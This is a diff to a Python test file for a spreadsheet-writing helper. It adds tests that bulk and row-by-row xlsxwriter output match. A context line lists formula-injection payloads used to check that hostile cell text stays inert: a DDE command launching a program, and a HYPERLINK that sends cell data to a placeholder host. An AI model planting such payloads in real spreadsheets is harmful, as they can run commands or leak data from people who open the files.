@@ -2,12 +2,16 @@ from __future__ import annotations
 
 import io
 import zipfile
-from datetime import date
+from datetime import date, datetime
+from decimal import Decimal
 
 import openpyxl
+import pytest
 import xlsxwriter
+from hypothesis import given, settings
+from hypothesis import strategies as st
 
-from taizhang.lib.xlsx import openpyxl_set, xlsxwriter_write_row
+from taizhang.lib.xlsx import openpyxl_set, xlsxwriter_write_row, xlsxwriter_write_rows
 
 HOSTILE = ["=1+1", "@SUM(A1)", "-2+3", "+cmd|' /C calc'!A0", '=HYPERLINK("http://x/?"&B1,"点我")']
 
@@ -44,3 +48,118 @@ def test_openpyxl_cells_keep_hostile_text_as_text():
     out = io.BytesIO()
     book.save(out)
     assert "<f>" not in _sheet_xml(out.getvalue())
+
+
+class _Label(str):
+    pass
+
+
+# Every kind of cell the row writer must leave to xlsxwriter, next to plain ones: the sheet must not change.
+AWKWARD_ROWS = [
+    [1, "学习台账", "", 3.5, -0.0, 10**17, 2**70, "=1+1", "-2", "@x", "a\nb", "tab\tinside", '"quoted"'],
+    ["A&B", "<b>", "a > b", "<r>not rich</r>", "x\x01y", "carriage\r", "_x0041_", "\ufffe", "emoji 😀"],
+    [" leading", "trailing ", "\n", "\u3000全角空格", "ok"],
+    [None, True, False, Decimal("1.25"), date(2023, 9, 5), datetime(2023, 9, 5, 8, 30), _Label("子类")],
+    ["x" * 40000, "y" * 17000, "z"],
+    [],
+    [float("1e300"), 0.1, 7],
+    ["just", "text"],
+]
+
+
+def _parts(data: bytes) -> dict[str, bytes]:
+    with zipfile.ZipFile(io.BytesIO(data)) as z:
+        # docProps/core.xml holds the time the workbook was written.
+        return {n: z.read(n) for n in z.namelist() if n != "docProps/core.xml"}
+
+
+def _book(
+    rows: list[list],
+    *,
+    bulk: bool,
+    constant_memory: bool = True,
+    column_format: bool = False,
+    row_ahead: bool = False,
+) -> bytes:
+    """A sheet made as ledgers make theirs (title, header with a row height, rows, then the filter), the rows
+    written one by one through xlsxwriter_write_row, or with xlsxwriter_write_rows."""
+    out = io.BytesIO()
+    book = xlsxwriter.Workbook(out, {"constant_memory": constant_memory, "in_memory": False})
+    sheet = book.add_worksheet("台账")
+    title = book.add_format({"bold": True})
+    head = book.add_format({"bold": True, "border": 1})
+    cell = None if column_format else book.add_format({"border": 1, "text_wrap": True})
+    day = book.add_format({"num_format": "yyyy-mm-dd"})
+    if column_format:
+        sheet.set_column(1, 2, 12, book.add_format({"italic": True}))
+    sheet.merge_range(0, 0, 0, 5, "标题", title)
+    xlsxwriter_write_row(sheet, 1, ["序号", "名称"], head)
+    sheet.set_row(1, 32)
+    if row_ahead:
+        sheet.set_row(5, 40)  # a row ahead with its own height: written the way xlsxwriter writes it
+    if bulk:
+        assert xlsxwriter_write_rows(sheet, 2, iter(rows), cell, day) == len(rows)
+    else:
+        for r, values in enumerate(rows, start=2):
+            xlsxwriter_write_row(sheet, r, values, cell, day)
+    sheet.write_string(2 + len(rows), 0, "制表人：", cell)
+    sheet.autofilter(1, 0, 1 + len(rows), 5)
+    book.close()
+    return out.getvalue()
+
+
+PLAIN_ROWS = [[n, f"第{n}行", "", n * 1.5] for n in range(30)]
+
+
+@pytest.mark.parametrize(
+    "rows", [PLAIN_ROWS, AWKWARD_ROWS + PLAIN_ROWS, PLAIN_ROWS + AWKWARD_ROWS], ids=["plain", "first", "last"]
+)
+@pytest.mark.parametrize("row_ahead", [False, True])
+@pytest.mark.parametrize("column_format", [False, True])
+@pytest.mark.parametrize("constant_memory", [True, False])
+def test_rows_in_bulk_make_the_same_workbook_as_row_by_row(rows, constant_memory, column_format, row_ahead):
+    options = {"constant_memory": constant_memory, "column_format": column_format, "row_ahead": row_ahead}
+    bulk = _book(rows, bulk=True, **options)
+    assert _parts(bulk) == _parts(_book(rows, bulk=False, **options))
+    values = [[c.value for c in r] for r in openpyxl.load_workbook(io.BytesIO(bulk)).active.iter_rows()]
+    assert values[2][:3] == [rows[0][0], rows[0][1], ""]
+
+
+@settings(max_examples=60, deadline=None)
+@given(
+    rows=st.lists(
+        st.lists(st.one_of(st.text(max_size=12), st.integers(-(2**60), 2**60), st.none()), max_size=6),
+        max_size=8,
+    )
+)
+def test_any_text_and_numbers_come_out_as_xlsxwriter_writes_them(rows):
+    assert _parts(_book(rows, bulk=True)) == _parts(_book(rows, bulk=False))
+    assert _parts(_book(rows, bulk=True, row_ahead=True)) == _parts(_book(rows, bulk=False, row_ahead=True))
+
+
+def test_written_rows_are_closed_to_later_cells():
+    out = io.BytesIO()
+    book = xlsxwriter.Workbook(out, {"constant_memory": True, "in_memory": False})
+    sheet = book.add_worksheet()
+    assert xlsxwriter_write_rows(sheet, 0, [["a", 1], ["b", 2]]) == 2
+    assert sheet.write_string(1, 0, "again") == -1  # refused, as xlsxwriter refuses any row already written
+    assert xlsxwriter_write_rows(sheet, 2, []) == 0
+    sheet.write_string(2, 0, "next")
+    book.close()
+    values = [
+        [c.value for c in r] for r in openpyxl.load_workbook(io.BytesIO(out.getvalue())).active.iter_rows()
+    ]
+    assert values == [["a", 1], ["b", 2], ["next", None]]
+
+
+def test_under_an_unchecked_xlsxwriter_release_every_row_goes_through_xlsxwriter(monkeypatch):
+    from taizhang.lib import xlsx
+
+    fast = _book(PLAIN_ROWS, bulk=True)
+    calls = []
+    monkeypatch.setattr(xlsxwriter, "__version__", "9.0.0")
+    original = xlsx.xlsxwriter_write_row
+    monkeypatch.setattr(xlsx, "xlsxwriter_write_row", lambda *a, **k: calls.append(a[1]) or original(*a, **k))
+    slow = _book(PLAIN_ROWS, bulk=True)
+    assert len(calls) >= len(PLAIN_ROWS)  # the header and every row, cell by cell through xlsxwriter
+    assert _parts(slow) == _parts(fast)
